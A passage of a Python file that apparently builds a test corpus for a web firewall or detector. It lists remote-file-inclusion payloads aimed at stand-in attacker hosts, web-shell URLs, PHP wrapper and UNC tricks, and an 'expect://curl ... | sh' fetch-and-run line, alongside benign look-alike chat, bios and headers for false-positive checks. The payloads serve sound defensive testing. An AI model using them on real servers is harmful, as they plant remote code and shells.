    "http://198.51.100.90/x/upload.txt",
    "http://192.0.2.66:8080/jsp/cmd.jsp",
    "http://203.0.113.14/ck.txt",
]

# url-with-trailing-question-mark: the trailing ? (or ??, &, #) that turns the ".php" the application appends
# into a query string of the attacker's URL; target: PHP include($page . '.php')
URL_QUESTION: list[Entry] = [
    "http://198.51.100.91/shell.txt?",
    "https://198.51.100.91/c99.txt?",
    "http://198.51.100.91/r57.txt??",
    "http://rfi.attacker.example/id.txt?",
    "http://203.0.113.22/fx29id.txt???",
    "http://198.51.100.91/bot.txt?&",
    "http://203.0.113.22/t.txt%3F",
    "http://rfi.attacker.example/inc/x.txt?x=",
    "https://203.0.113.22/p.txt?a=",
    "http://198.51.100.91/wso.txt#",
    "http://198.51.100.91/test.txt%00",
    "http://rfi.attacker.example/ver.txt??",
    "http://203.0.113.22:8080/cmd.txt?",
    "http://198.51.100.91/.x/echo.txt?",
    "http://rfi.attacker.example/raw/spy.txt?&cmd=id",
    "http://203.0.113.22/mambo.txt?",
    "http://198.51.100.91/img/ph.jpg?",
    "https://rfi.attacker.example/s?",
    "http://198.51.100.91/k.txt%3F%3F",
    "http://203.0.113.22/z.txt?/",
    "http://198.51.100.91/inc.txt?.php",
    "http://rfi.attacker.example/lol.txt?%00",
    "http://203.0.113.22/pb.txt??&",
    "http://198.51.100.91/safe.txt?",
    "http://rfi.attacker.example/dc.txt?=",
    "http://203.0.113.22/up/ab.txt?",
    "http://198.51.100.91/a.txt?b=.php",
    "http://rfi.attacker.example/sb/bc.txt?",
    "http://203.0.113.22/phpshell.txt?",
    "http://198.51.100.91/r.txt?%23",
]

# include-parameter-with-url: the whole request line a worm sends: the CMS's include parameter (Joomla
# mosConfig_absolute_path, phpBB phpbb_root_path, _SERVER[DOCUMENT_ROOT], GALLERY_BASEDIR, ...) or a generic
# page/file/template/include/path, often doubled or after a legitimate value; target: the named PHP products
INCLUDE_PARAMS: list[Entry] = kv([
    "page=http://198.51.100.92/s.txt?",
    "file=https://203.0.113.31/shell.txt?",
    "template=http://198.51.100.92/t.txt?",
    "include=http://198.51.100.92/inc.txt",
    "path=http://203.0.113.31/c99.txt?",
    "mosConfig_absolute_path=http://198.51.100.92/id.txt?",
    "_SERVER[DOCUMENT_ROOT]=http://203.0.113.31/r57.txt?",
    "GALLERY_BASEDIR=http://198.51.100.92/g.txt?",
    "phpbb_root_path=http://203.0.113.31/bot.txt?",
    "appserv_root=http://198.51.100.92/a.txt?",
    "lang=http://203.0.113.31/lang.txt%00",
    "dir=http://198.51.100.92/d.txt?",
    "inc=https://203.0.113.31/x.txt??",
    "module=http://198.51.100.92/m.txt?",
    "config[root_dir]=http://203.0.113.31/cfg.txt?",
    "page=home&page=http://198.51.100.92/shell.txt?",
    "cmd=id&page=http://203.0.113.31/r57.txt?",
    "option=com_content&mosConfig_live_site=http://198.51.100.92/j.txt?",
    "file=about.php&file=http://203.0.113.31/s.txt?",
    "page=index.php?page=http://198.51.100.92/p.txt?",
    "template=default&template=http://203.0.113.31/t.txt%3F",
    "include_path=http://198.51.100.92/ip.txt?",
    "base_path=http://203.0.113.31/bp.txt?",
    "rootdir=http://198.51.100.92/root.txt?",
    "view=http://203.0.113.31/v.txt?",
    "content=http://198.51.100.92/c.txt?",
    "GLOBALS[app_path]=http://203.0.113.31/gp.txt?",
    "class_path=http://198.51.100.92/cp.txt?",
    "show=http://203.0.113.31/show.txt?&cmd=uname%20-a",
    "pg=http://198.51.100.92/pg.txt?",
    "doc=http://203.0.113.31/doc.txt??",
])

# off-domain-reference: the include pointed at a host name off this site (paste and raw-file hosts, tunnels,
# interaction hosts, user@host confusion, the Nikto and humans.txt probes); target: PHP include, Java URL
# loaders, template engines that fetch a remote template
OFF_DOMAIN: list[Entry] = [
    "https://pastebin.com/raw/xYz12AbC",
    "https://raw.githubusercontent.com/k1tt3n/sh/main/wso.php",
    "http://evil.example/shell.txt",
    "https://transfer.sh/abcD3f/x.php",
    "//attacker.example/s.txt",
    "http://cirt.net/rfiinc.txt?",
    "http://www.google.com/humans.txt?",
    "https://gist.githubusercontent.com/anon/3f2a1b/raw/c99.php",
    "https://dl.dropboxusercontent.com/s/k2j3h4/x.txt",
    "https://cdn.discordapp.com/attachments/1/2/payload.txt",
    "https://4a7b-203-0-113-5.ngrok-free.app/s.php",
    "http://c2.r7x3q9.oast.fun/inc.txt",
    "http://a1b2c3d4.burpcollaborator.net/rfi.php",
    "http://example.org@evil.example/shell.txt",
    "https://bit.ly/3xYzAbc",
    "http://evil.example/shell.gif",
    "https://evil.example/wso.txt#",
    "http://attacker.example:8080/templates/evil.vm",
    "https://raw.attacker.example/kit/cmd.jsp",
    "http://evil.example/.well-known/x.txt",
    "https://attacker.example/payload.xsl",
    "http://www.example.com.evil.example/inc.php",
    "https://paste.ee/r/AbC12",
    "http://ya.attacker.example/lib.txt",
    "https://storage.googleapis.com/evil-bucket/s.txt",
    "http://evil.example/a.txt?x=",
    "https://hastebin.com/raw/ocigabero",
    "http://evil.example/~x/php.txt",
    "http://attacker.example/robots.txt",
    "https://attacker.example/rfi_test.txt",
]

# protocols: the include reached over another scheme or path form (ftp/ftps, SMB and WebDAV UNC paths for
# Windows PHP, data:, expect:, tftp, ssh2, jar:, wrapper chains around an http URL); target: PHP on Windows and
# Linux, Java jar: URLs
PROTOCOLS: list[Entry] = [
    "ftp://anonymous:anonymous@198.51.100.93/pub/s.php",
    "ftp://198.51.100.93/s.txt",
    "smb://198.51.100.93/share/s.php",
    "\\\\198.51.100.93\\share\\s.php",
    "\\\\attacker.example@SSL\\DavWWWRoot\\s.php",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data://text/plain,<?php system('id');?>",
    "expect://ls -la",
    "ftps://198.51.100.93/inc.txt",
    "sftp://198.51.100.93:22/s.php",
    "tftp://198.51.100.93/s.php",
    "jar:http://198.51.100.93/x.jar!/shell.jsp",
    "ssh2.exec://user:pass@198.51.100.93:22/id",
    "compress.zlib://http://198.51.100.93/s.txt",
    "php://filter/resource=http://198.51.100.93/s.txt",
    "file://198.51.100.93/share/s.php",
    "\\\\198.51.100.93@80\\s\\x.php",
    "//198.51.100.93/share/x.php",
    "ftp://u:p@attacker.example:2121/w.txt",
    "\\\\attacker.example\\webdav\\shell.php",
    "data:;base64,PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+",
    "ftp://198.51.100.93/%2e%2e/s.php",
    "webdav://198.51.100.93/s.php",
    "\\\\r8q2.oast.fun\\a\\b.php",
    "php://filter/convert.base64-decode/resource=http://198.51.100.93/b64.txt",
    "jar:https://attacker.example/e.war!/index.jsp",
    "expect://curl http://198.51.100.93/x.sh|sh",
    "\\\\?\\UNC\\198.51.100.93\\share\\s.php",
    "zip://\\\\198.51.100.93\\share\\x.zip#s.php",
    "ftp://198.51.100.93:21/incoming/c99.php",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-expression-evasion", SHELL_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", COMMAND_PATHS),
    ("rce", "reverse-shells", REVERSE_SHELLS),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED_FILES_CMD),
    ("lfi", "path-traversal", PATH_TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-paths", ABSOLUTE_PATHS),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPERS),
    ("lfi", "log-poisoning-targets", LOG_TARGETS),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QUESTION),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAMS),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]
# fixed `name=value` entries in these sub-families go unquoted (a whole query string, body or parameter name)
RAW_KV_SUBS = {"include-parameter-with-url", "php-wrapper-lfi", "log-poisoning-targets"}

# the product traversals sent as the request path itself, as the bots send them
PRODUCT_PATHS = {e[0] for e in PATH_TRAVERSAL if isinstance(e, tuple)}

# a payload already percent-encoded the way the bot sent it (%2f, %252f, %c0%af, %u2215, %%32%65, %00)
PRE_ENCODED = re.compile(r"%(?:[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|%[0-9a-fA-F]{2})")


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    # a raw `name=value` keeps its syntax, its brackets and its own %-escapes
    kv_safe = "=&[]._-:/'*$!(),;{}~@%?+<>"
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-param-name", "rs-raw-body")
    unique = True
    rce_names = ["cmd", "ip", "host", "ping", "target", "exec", "q", "domain", "addr"]
    inc_names = ["page", "file", "template", "include", "path", "lang", "doc", "view", "filename"]
    rs_rce_names = ["cmd", "foo", "ip", "x", "command", "arg1"]
    rs_inc_names = ["file", "page", "foo", "path", "x", "inc"]
    shellshock_real = ("header:User-Agent", "header:Referer", "header:X-Api-Version")
    shellshock_rs = ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header")
    cgi_paths = ["/cgi-bin/test.cgi", "/cgi-bin/status", "/cgi-bin/admin.cgi", "/cgi-bin/test-cgi"]
    path_forbids = "#"
    raw_body_forbids = ""
    raw_body_pair = True
    xml_controls = "\n\t"

    def preencoded(self, value: str) -> bool:
        return PRE_ENCODED.search(value) is not None

    def enc(self, value: str, latin: bool = False, safe: str = "") -> str:
        """A payload the bot already percent-encoded keeps its escapes (its % signs are not encoded again)."""
        return super().enc(value, latin, safe + "%" if self.preencoded(value) else safe)

    def _segment(self, p: Put) -> str:
        """A product traversal goes as the bot wrote it (its slashes, dots and query kept), only what breaks a
        request line quoted."""
        if p.v in PRODUCT_PATHS:
            return self.enc(p.v.lstrip("/"), p.latin, "/%.;?=&")
        return super()._segment(p)

    def _p_rs_path(self, p: Put) -> Record:
        """A product traversal is the whole request path (the product's own URL), not a segment under a path."""
        if p.v in PRODUCT_PATHS:
            return request("GET", "/" + self._segment(p))
        return super()._p_rs_path(p)

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "shellshock":
            return self.shellshock_real, self.shellshock_rs
        return super().cycles(category, sub, payload)

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.rce_names if category == "rce" else self.inc_names
        return names[k % len(names)]

    def rs_name(self, category: str, sub: str, k: int) -> str:
        names = self.rs_rce_names if category == "rce" else self.rs_inc_names
        return names[k % len(names)]

    def rs_path(self, category: str, sub: str, k: int) -> str:
        if sub == "shellshock":
            return self.cgi_paths[k % len(self.cgi_paths)]
        return super().rs_path(category, sub, k)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios about server logs, honeypots, incidents and the
# bugs themselves, searches, admin-panel notes, links to advisories and docs, profiles, uploads, ordinary headers)
CHAT = [
    # honeypot and log watching
    "the honeypot caught 40k requests overnight, mostly people looking for /.env and wp-login.php",
    "fun fact: half our 404s are bots asking for /cgi-bin/ scripts we never had",
    "saw the usual Mirai traffic on the test box, busybox wget to some IP and a chmod 777, nothing got in",
    "the Shellshock probes are still coming in 2024, ten years later, all with the same User-Agent",
    "someone keeps requesting /etc/passwd through the old download link, the handler ignores the path anyway",
    "grafana dashboard for the WAF hits is up, top rule this week is the path traversal one",
    "most of the blocked traffic is scanners, the Nikto user agent shows up every few hours",
    "I wrote up the pearcmd thing for the wiki: bots hit /index.php?+config-create+ on every PHP host",
    "the fail2ban jail for ssh banned 300 IPs yesterday, auth.log is huge",
    "can we rotate the nginx access.log daily? it hit 8 GB on the edge box",
    "the cryptominer campaign that hit the other team was kinsing via an exposed docker API, not the web app",
    "log retention is 30 days for access logs, 90 for the WAF audit log",
    "cowrie honeypot recorded someone typing uname -a, then cat /proc/cpuinfo, then leaving",
    "the scanner hit us with ../../../../etc/passwd in every parameter, all 403, nothing to do",
    # incidents and on-call
    "incident review for last week's outage is Thursday, root cause was a full /var/log partition",
    "postmortem: the deploy script ran rm -rf on the wrong directory in staging, no prod impact",
    "on-call handover: the curl healthcheck against /api/users is flaky from the eu region",
    "can someone check why the cron job writes to /tmp instead of /var/tmp?",
    "we found an old backup.sql in the bucket, it's been deleted and the bucket is private now",
    "rotated the AWS credentials after the .env got pasted in a public gist, nobody used them",
    "the pentest found a path traversal in the legacy export, fixed by resolving against the base dir",
    "please never commit id_rsa again, I've added it to the pre-commit hook",
    "SSH key for the deploy user is in the vault, don't copy it to your laptop",
    "the Log4Shell scan traffic is down to a trickle now",
    "reminder: web.config on the IIS box is managed by the installer, don't hand-edit it",
    "the windows build agent needs powershell 7 for the release script",
    # engineering chat with the same syntax
    "to tail the logs on the box: ssh edge-1 then tail -f /var/log/nginx/access.log | grep 502",
    "curl -fsSL https://get.docker.com | sh is how the docs install it, but we use the apt repo",
    "wget the release tarball, check the sha256, then tar xzf it into /opt",
    "the bash script uses ${IFS} handling for the CSV split, I'll rewrite it in Python",
    "in PowerShell you can run Get-Content with -Tail 50 to follow a log file",
    "the systemd unit runs /usr/bin/python3 -m app.worker, not the venv binary",
    "cat /etc/os-release says Debian 12 on the new nodes",
    "the Makefile does echo $(VERSION) > build/version.txt, that's where the footer gets it",
    "use nc -zv db-host 5432 to check the port from the bastion",
    "the Dockerfile still copies php.ini from the old image, we should drop it",
    "our .htaccess rules were ported to nginx location blocks last year",
    "ps aux | grep worker shows two processes after the restart, that's expected",
    "I think the include path in the old PHP admin points at /usr/share/php",
    "git log on .git/HEAD is what the deploy page shows as the commit",
    "the config loader reads settings.ini then overrides from the environment",
    "added /proc/self/status parsing to the memory metrics exporter",
    "the file picker rejects anything ending in .bak or .old now",
    "we use the data: URL for the tiny logo in emails so clients don't block it",
    "the CDN URL has a trailing ? on purpose, it busts the cache",
    "the ftp:// import was removed, customers upload over https now",
    "the template parameter in the email service takes a name like welcome or reset, not a URL",
    "the page=2 link at the bottom of the directory is broken on mobile",
    "php://stdin in the CLI script is how it reads the CSV from the pipe",
    "the smb share for the finance team moved to \\\\files01\\finance",
    # support and product
    "customer asked why their upload named report.sql was rejected, we only take csv",
    "user's bio mentions 'echo' as their band name, the filter is fine with it",
    "the weather command works for Bash, Switzerland? apparently it's a real place",
    "ticket: user can't find the file.config setting, it's under Settings > Advanced now",
    "someone searched for 'cat' in the directory and found our office cat's profile",
    "support macro for 'why was my request blocked' is updated with the new WAF page",
    "user reported that typing C:\\Users\\ana in their bio got mangled, it's the backslash escaping",
    "the directory shows 'ping' as a nickname for Ping Chen, that's correct",
    "customer wants the weather alerts at 07:00, the config command handles that",
    # bios
    "SRE. I read nginx logs so you don't have to. Honeypots on weekends.",
    "Security engineer, blue team. Writes WAF rules, reads attack traffic, drinks too much coffee.",
    "Linux admin since the Slackware days. bash, awk, sed, and a lot of cron.",
    "Windows platform team: PowerShell, IIS, Group Policy.",
    "Incident commander rotation, ask me about postmortems",
    "Malware analyst. Mostly Mirai variants and cryptominers these days.",
    "Backend dev. PHP 8, Laravel, and a growing dislike of include paths.",
    "Network engineer. ping, traceroute, tcpdump, repeat.",
    "I run the team's honeypot and write the monthly 'what the bots tried' summary",
    "DevOps, Terraform and Ansible, occasionally curl | bash when nobody is looking",
    "Support lead, EU hours. I can find anything in the logs.",
]

SEARCHES = [
    "ana", "ping chen", "bash", "shell", "curl", "wget", "powershell", "cmd", "cat", "echo",
    "passwd", "root", "admin", "honeypot", "logs", "nginx", "apache", "windows", "linux", "mirai",
    "miner", "page", "file", "template", "include", "path", "ftp", "smb", "data", "env",
    "config", "backup", "sql", "php", "tmp", "proc", "log4j", "shellshock", "O'Connor", "busybox",
]

URLS = [
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-41773",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-43798",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/filesystem.configuration.php#ini.allow-url-include",
    "https://httpd.apache.org/security/vulnerabilities_24.html",
    "https://nginx.org/en/docs/http/ngx_http_log_module.html",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-content",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Expansions",
    "https://github.com/cowrie/cowrie",
    "https://github.com/jasonish/suricata-update",
    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
    "https://blog.example.com/2024/05/what-our-honeypot-saw-in-april",
    "https://docs.example.com/admin/logs#retention",
    "https://wiki.example.com/runbooks/edge/rotate-access-log",
    "https://status.example.com/incidents/2024-06-12-log-partition-full",
]

PROSE = [
    "honeypot summary April",
    "incident 2024-06-12 /var/log full",
    "users in team sre",
    "Shellshock retro reading group",
    "bash workshop attendees",
    "PowerShell office hours",
    "cat lovers channel",
    "echo team (audio)",
    "ping pong league",
    "root cause analysis owners",
    "path to promotion mentors",
    "file share migration contacts",
    "template owners for onboarding emails",
    "include me in the offsite list",
    "shell company review (finance)",
    "curl-up reading corner volunteers",
    "log rotation on-call",
    "backup admins",
    "config review board",
    "passwd reset requests this week",
    "windows laptop refresh",
    "linux desktop users",
    "apache junction office",
    "nginx migration squad",
    "ftp decommission stakeholders",
    "data team",
    "env team (environmental)",
    "proc ops",
    "tmp staff (temporary contracts)",
    "Mirai Tanaka",
    "miner's day volunteers",
    "SMB customers account managers",
    "page owners for the status page",
    "command center staff",
    "cmd+k shortcut feedback",
    "C:\\ drive cleanup volunteers",
    "/etc in the wiki means the config folder",
    "..and the rest of the design team",
    "users with .old email domains",
    "exec assistants",
]

PROFILES = [
    ("Ping Chen", "Nanjing Rd 200, Shanghai"),
    ("Anna Shell", "Harbour St 4, Sydney"),
    ("Bash Karimi", "Vali Asr 55, Tehran"),
    ("Echo Sound Studio", "Abbey Rd 3, London"),
    ("Curl & Wave Salon", "Main St 10, Galway"),
    ("Mirai Tanaka", "Shibuya 2-1, Tokyo"),
    ("Root & Branch Gardening", "Oak Lane 8, Bristol"),
    ("Cat Nguyen", "Le Loi 12, Ho Chi Minh City"),
    ("Miner's Arms Pub", "High St 21, Merthyr Tydfil"),
    ("Apache Junction Dental", "Main St 300, Apache Junction"),
    ("Windows & Doors GmbH", "Industriestr. 4, Stuttgart"),
    ("Template Design Co", "Queen St 9, Auckland"),
    ("Path Finder Tours", "Thamel, Kathmandu"),
    ("Data Bakery", "Rue du Pain 6, Lyon"),
    ("Shellshock Surf School", "Beach Rd 1, Byron Bay"),
    ("Busy Box Removals", "Unit 7, Slough Trading Estate"),
    ("Log Cabin Rentals", "Lakeside 2, Lake Placid"),
    ("Proc Tor Nilsen", "Storgata 5, Oslo"),
    ("Include Foundation", "Rue de la Loi 16, Brussels"),
    ("Powers Hell's Kitchen Diner", "9th Ave 512, New York"),
]

UPLOAD_NAMES = [
    "users-2024-06.csv", "honeypot-april-summary.pdf", "access.log.csv", "incident-2024-06-12.pdf",
    "team photo.jpg", "nginx.conf.txt", "bash-workshop-slides.pdf", "powershell-cheatsheet.pdf",
    "web.config-review.docx", "passwd-reset-policy.pdf", "backup-plan-2024.xlsx", "cron-schedule.csv",
    "shellshock-retro-notes.md", "mirai-analysis.pdf", "etc-hosts-inventory.csv", "php-upgrade-plan.docx",
    "waf-hits-week24.csv", "directory export (June).csv", "C-drive-cleanup.xlsx", "old-logo.png",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.2"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "Prometheus/2.52.0"),
    ("Referer", "https://nvd.nist.gov/vuln/detail/CVE-2014-6271"),
    ("Referer", "https://app.example.com/admin/users?page=3&sort=name"),
    ("Referer", "https://wiki.example.com/runbooks/edge/rotate-access-log"),
    ("Referer", "https://www.google.com/search?q=nginx+access+log+format"),
    ("Referer", "https://learn.microsoft.com/en-us/powershell/scripting/overview"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "9b2e4f10-7c3a-4d8e-b1f2-5a6c7d8e9f01"),
    ("Accept-Language", "de-CH,de;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; theme=dark; tz=Europe%2FZurich"),
    ("Cookie", "session=abc123; last_page=%2Fapi%2Fusers%3Fpage%3D2"),
    ("Cookie", "session=abc123; lang=en; file_view=list"),
    ("X-Forwarded-For", "203.0.113.77"),
    ("Cache-Control", "no-cache"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
